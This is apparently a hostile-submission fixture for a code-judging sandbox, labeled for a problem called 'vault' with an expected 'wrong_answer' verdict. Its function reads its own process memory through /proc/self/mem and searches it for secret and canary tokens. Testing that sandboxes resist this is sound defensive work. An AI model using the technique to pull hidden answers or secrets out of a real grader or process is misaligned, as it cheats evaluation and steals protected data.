# /// hostile
# verdicts = ["wrong_answer"]
# danger = "Reads the whole memory of its own process, freed parts included."
# problem = "vault"
# ///
import re


def f(x):
    hits = set()
    try:
        with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", buffering=0) as memory:
            for line in maps:
                span, mode, *_ = line.split()
                if not mode.startswith("rw"):
                    continue
                low, high = (int(part, 16) for part in span.split("-"))
                try:
                    memory.seek(low)
                    block = memory.read(min(high - low, 64 << 20))
                except (OSError, ValueError, OverflowError):
                    continue
                hits.update(re.findall(rb"(?:HIDDEN|PEPPER|SECRET|CANARY)-[\w-]{4,60}", block))
    except OSError as error:
        print(error)
    print(hits)
    return x
